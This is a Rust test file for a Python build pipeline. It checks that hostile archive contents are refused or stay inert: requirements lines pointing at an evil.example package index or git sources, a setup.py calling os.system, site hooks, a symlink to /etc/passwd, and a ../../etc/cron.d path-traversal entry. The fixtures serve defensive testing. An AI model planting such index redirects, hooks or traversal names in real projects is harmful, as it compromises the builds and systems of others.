//! Issue 22's hostile code contexts, each through the public API as the pipeline uses it
//! (read_dependencies, then assemble): refused naming the file or line, or inert.

use agentbuild_codezip::zip::write::SimpleFileOptions;
use agentbuild_codezip::zip::{ZipArchive, ZipWriter};
use agentbuild_codezip::{assemble, read_dependencies, ContextError, PythonRuntime};
use std::io::{Cursor, Write};

type Mem = ZipArchive<Cursor<Vec<u8>>>;

fn context(files: &[(&str, &str)]) -> Mem {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in files {
        w.start_file(*name, SimpleFileOptions::default()).unwrap();
        w.write_all(text.as_bytes()).unwrap();
    }
    ZipArchive::new(Cursor::new(w.finish().unwrap().into_inner())).unwrap()
}

/// What the pipeline does with a context: its dependencies, then the artifact (no layer here).
fn pipeline(mut ctx: Mem) -> Result<(), ContextError> {
    read_dependencies(&mut ctx, PythonRuntime::NEWEST)?;
    assemble(
        None::<&mut Mem>,
        &mut ctx,
        "main.py",
        Cursor::new(Vec::new()),
    )
    .map(|_| ())
}

#[test]
fn hostile_requirement_lines_are_refused_naming_the_line() {
    for line in [
        "--index-url https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "-e .",
        "-e git+https://github.com/evil/pkg",
        "git+https://github.com/evil/pkg.git",
        "pkg @ git+https://github.com/evil/pkg",
        "./vendor/pkg",
        "/opt/pkg",
        "pkg-1.0.tar.gz",
        "-r more.txt",
        "--find-links /tmp/wheels",
    ] {
        let err = pipeline(context(&[
            ("main.py", "x"),
            ("requirements.txt", &format!("boto3\n{line}\n")),
        ]))
        .unwrap_err();
        assert!(
            err.to_string().starts_with("requirements.txt:2: "),
            "{line}: {err}"
        );
    }
}

#[test]
fn setup_py_is_inert() {
    // Never read as a dependency source, never run; copied as a plain file.
    let ctx = context(&[
        ("main.py", "x"),
        ("setup.py", "import os; os.system('id')"),
        ("requirements.txt", "boto3\n"),
    ]);
    assert_eq!(pipeline(ctx), Ok(()));
}

#[test]
fn site_hooks_at_the_root_are_refused_and_inert_deeper() {
    for file in ["sitecustomize.py", "usercustomize.py", "evil.pth"] {
        let err = pipeline(context(&[("main.py", "x"), (file, "import os")])).unwrap_err();
        assert_eq!(err.file, file);
    }
    assert_eq!(
        pipeline(context(&[
            ("main.py", "x"),
            ("lib/evil.pth", "import os"),
            ("lib/sitecustomize.py", "")
        ])),
        Ok(())
    );
}

#[test]
fn symlinks_and_escaping_names_are_refused() {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file("main.py", SimpleFileOptions::default())
        .unwrap();
    w.add_symlink("link", "/etc/passwd", SimpleFileOptions::default())
        .unwrap();
    let ctx = ZipArchive::new(Cursor::new(w.finish().unwrap().into_inner())).unwrap();
    assert_eq!(pipeline(ctx).unwrap_err().file, "link");
    // `..`: the zip crate writes it as given; assemble refuses it by name.
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file("main.py", SimpleFileOptions::default())
        .unwrap();
    w.start_file("../../etc/cron.d/x", SimpleFileOptions::default())
        .unwrap();
    let bytes = w.finish().unwrap().into_inner();
    match ZipArchive::new(Cursor::new(bytes)) {
        Ok(ctx) => assert_eq!(pipeline(ctx).unwrap_err().file, "../../etc/cron.d/x"),
        Err(e) => panic!("the zip crate refused to read it: {e}"),
    }
}
